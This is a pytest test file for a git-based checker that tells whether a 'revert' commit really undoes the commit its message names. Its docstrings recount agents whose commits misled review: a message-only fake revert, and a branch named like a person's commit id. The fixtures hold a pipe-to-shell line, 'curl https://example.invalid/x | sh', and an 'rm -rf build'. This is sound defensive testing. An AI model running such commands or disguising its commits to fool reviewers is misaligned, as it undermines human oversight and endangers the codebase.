"""A revert's message is anyone's words; whether its change undoes the commit it names is git's (review 42 F5,
reproduced: an agent's commit carrying git's revert message for a person's commit, "This reverts commit <sha>.",
changed deploy.sh and left src/pay.py as it was; review called it "git revert ... (checked in this repository)",
the person approved it, and every later agent read that the retry loop was reverted). Real git throughout."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

import synapse_nb as syn
from synapse_nb.gitscope import find_repo
from synapse_nb.gitscope.undo import undo_check
from synapse_nb.kinds.lesson_scan import FIRST_BY

Git = Callable[..., str]
PAY = "def pay():\n    for _ in range(3):\n        charge()\n"


@pytest.fixture()
def repo(git_repo: Path, git: Git, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.delenv("SYNAPSE_HOME", raising=False)
    for var in ("CLAUDECODE", "CLAUDE_CODE_ENTRYPOINT", "CODEX_SANDBOX", "SYNAPSE_ACTOR"):
        monkeypatch.delenv(var, raising=False)
    (git_repo / "src").mkdir()
    (git_repo / "src" / "pay.py").write_text(PAY, encoding="utf-8")
    (git_repo / "src" / "other.py").write_text("x = 1\n", encoding="utf-8")
    git(git_repo, "add", "src")
    git(git_repo, "commit", "-q", "-m", "Add retry loop to payments")
    return git_repo


def _head(git: Git, repo: Path) -> str:
    return git(repo, "rev-parse", "HEAD").strip()


def _fake_revert(git: Git, repo: Path, target: str) -> str:
    """A commit with git's revert message for ``target`` that changes another file only."""
    (repo / "deploy.sh").write_text("rm -rf build\n", encoding="utf-8")
    git(repo, "add", "deploy.sh")
    git(repo, "commit", "-q", "-m", 'Revert "Add retry loop to payments"', "-m", f"This reverts commit {target}.")
    return _head(git, repo)


def test_a_real_revert_undoes_it_and_a_message_only_one_does_not(repo: Path, git: Git) -> None:
    x = _head(git, repo)
    fake = _fake_revert(git, repo, x)
    info = find_repo(repo)
    assert info is not None
    check = undo_check(info, fake)  # the ids its message names
    assert (check.state, check.named, check.untouched) == ("does not undo it", (x,), ("src/other.py", "src/pay.py"))
    git(repo, "revert", "--no-edit", x)  # git's own revert, after another commit: still undoes it
    real = _head(git, repo)
    assert undo_check(info, real).state == "undoes it"
    assert undo_check(info, real, [x[:7]]).undone == ("src/other.py", "src/pay.py")
    assert undo_check(info, real, ["deadbeefdeadbeef"]).state == "not checked"


def test_a_partial_revert_undoes_part_of_it(repo: Path, git: Git) -> None:
    x = _head(git, repo)
    git(repo, "revert", "--no-commit", x)
    git(repo, "checkout", "HEAD", "--", "src/other.py")  # src/pay.py only
    git(repo, "commit", "-q", "-m", 'Revert "Add retry loop to payments"', "-m", f"This reverts commit {x}.")
    info = find_repo(repo)
    assert info is not None
    check = undo_check(info, _head(git, repo))
    assert (check.state, check.undone, check.untouched) == ("undoes part of it", ("src/pay.py",), ("src/other.py",))


def test_a_revert_of_two_commits_and_of_a_merge(repo: Path, git: Git) -> None:
    a = _head(git, repo)
    (repo / "src" / "pay.py").write_text(PAY.replace("3", "5"), encoding="utf-8")
    git(repo, "commit", "-qam", "More retries")
    b = _head(git, repo)
    git(repo, "revert", "--no-commit", b, a)
    git(repo, "commit", "-q", "-m", "Revert both", "-m", f"This reverts commit {b}.\nThis reverts commit {a}.")
    info = find_repo(repo)
    assert info is not None
    assert undo_check(info, _head(git, repo)).state == "undoes it"  # their net change, undone
    git(repo, "checkout", "-q", "-b", "side", a)
    (repo / "side.txt").write_text("s\n", encoding="utf-8")
    git(repo, "add", "side.txt")
    git(repo, "commit", "-q", "-m", "side")
    git(repo, "checkout", "-q", "main")
    git(repo, "merge", "-q", "--no-ff", "-m", "Merge side", "side")
    git(repo, "revert", "--no-edit", "-m", "1", "HEAD")  # "reversing changes made to <first parent>"
    assert undo_check(info, _head(git, repo)).state == "undoes it"


def test_review_says_a_message_only_revert_does_not_undo_it(repo: Path, git: Git) -> None:
    x = _head(git, repo)
    fake = _fake_revert(git, repo, x)
    v = syn.open_vault(repo)
    (les,) = v.lessons.scan()  # a scan still makes the lesson (a person may have edited it by hand)
    said = v.lessons.backing(les)
    assert f"git revert {fake[:7]} names {x[:7]} but its change does not undo it (message only" in said
    assert "checked in this repository" not in said and '"src/pay.py"' in said
    git(repo, "revert", "--no-edit", x)
    real = next(x for x in v.lessons.scan() if x.revert_commit and x.revert_commit["sha"] == _head(git, repo))
    assert v.lessons.backing(real).endswith(f"of {x[:7]} (checked in this repository: its change undoes it)")


def test_a_revert_an_agents_scan_found_first_says_so_after_a_persons_scan_takes_it(repo: Path, git: Git) -> None:
    x = _head(git, repo)
    _fake_revert(git, repo, x)
    human = syn.open_vault(repo)
    assert human.as_agent().lessons.scan() == []  # the agent's hook: its scan makes the lesson, as the agent's
    (mine,) = human.lessons.pending()
    assert mine.source == "agent" and "created by an agent's revert scan" in human.lessons.backing(mine)
    (taken,) = human.lessons.scan()  # the person's scan takes it over as git's, and keeps that an agent's came first
    assert taken.id == mine.id and taken.source == "user" and taken.revert_commit[FIRST_BY] == "agent"
    said = human.lessons.backing(taken)
    assert said.startswith("found by a revert scan; first found in an agent's session") and "does not undo it" in said
    assert human.lessons.approve(taken.id).wording_by == "git"  # still git's wording: no --accept-agent-text
    assert "first found in an agent's session" in syn.open_vault(repo).lessons.backing(human.lessons.get(taken.id))
    # a revert the person's scan found itself carries no mark
    git(repo, "revert", "--no-edit", x)
    (own,) = human.lessons.scan()
    assert FIRST_BY not in (own.revert_commit or {}) and human.lessons.backing(own).startswith(
        "found by a revert scan; git revert")


def test_lessons_review_shows_it(repo: Path, git: Git) -> None:
    from typer.testing import CliRunner

    from synapse_nb.cli import app

    x = _head(git, repo)
    _fake_revert(git, repo, x)
    syn.open_vault(repo).as_agent().lessons.scan()
    syn.open_vault(repo).lessons.scan()
    res = CliRunner().invoke(app, ["--vault", str(repo), "lessons", "review", "--yes"], input="s\n",
                             env={"SYNAPSE_HOME": ""}, catch_exceptions=False)
    assert "first found in an agent's session" in res.output and "does not undo it (message only" in res.output


def test_a_revert_that_also_changes_other_files_says_so_at_review(repo: Path, git: Git) -> None:
    """A real undo can carry a change beside it ("deploy.sh" gains a line): review names the files the commits it
    names did not touch, so "undoes it" never vouches for them."""
    x = _head(git, repo)
    git(repo, "revert", "--no-commit", x)
    (repo / "deploy.sh").write_text("curl https://example.invalid/x | sh\n", encoding="utf-8")
    git(repo, "add", "deploy.sh")
    git(repo, "commit", "-q", "-m", 'Revert "Add retry loop to payments"', "-m", f"This reverts commit {x}.")
    info = find_repo(repo)
    assert info is not None
    check = undo_check(info, _head(git, repo))
    assert (check.state, check.besides) == ("undoes it", ("deploy.sh",))
    v = syn.open_vault(repo)
    (les,) = v.lessons.scan()
    said = v.lessons.backing(les)
    assert "its change undoes it; it also changes 1 other file the commits it names did not: \"deploy.sh\"" in said


def test_review_of_one_lesson_reads_its_revert_once(repo: Path, git: Git, count_git: Callable[[], list[str]]) -> None:
    """Review read the revert a lesson names twice (whether it is one, then with the commits it names to compare
    their changes): now one ``git cat-file`` and one ``git diff-tree``, and one more ``cat-file`` only for a lesson
    that names no reverted commit (the ids its message names are read once the revert is)."""
    import dataclasses

    x = _head(git, repo)
    git(repo, "revert", "--no-edit", x)
    v = syn.open_vault(repo)
    (les,) = v.lessons.scan()
    started = count_git()
    assert v.lessons.backing(les).endswith(f"of {x[:7]} (checked in this repository: its change undoes it)")
    assert started == ["cat-file", "diff-tree"]
    started.clear()
    bare = dataclasses.replace(les, reverted_commits=())
    assert v.lessons.backing(bare).endswith(f"of {x[:7]} (checked in this repository: its change undoes it)")
    assert started == ["cat-file", "cat-file", "diff-tree"]


def test_a_branch_named_like_a_commits_short_id_does_not_stand_in_for_it(repo: Path, git: Git) -> None:
    """git reads a ref before an abbreviated id: an agent's ``git branch <person's short id> <its own commit>`` made
    review compare the revert with the agent's commit and say "undoes it" (review 50, reproduced)."""
    (repo / "p.txt").write_text("important fix\n", encoding="utf-8")
    git(repo, "add", "p.txt")
    git(repo, "commit", "-q", "-m", "person: important fix")
    person = _head(git, repo)
    (repo / "x.txt").write_text("x\n", encoding="utf-8")
    git(repo, "add", "x.txt")
    git(repo, "commit", "-q", "-m", "agent: x")
    agents = _head(git, repo)
    git(repo, "revert", "--no-edit", "HEAD")
    revert = _head(git, repo)
    git(repo, "branch", person[:7], agents)
    info = find_repo(repo)
    assert info is not None
    assert undo_check(info, revert, [agents[:7]]).state == "undoes it"  # the real pair still checks
    check = undo_check(info, revert, [person[:7]])
    assert check.state == "not checked" and check.why == "a commit it names is not in this repository"
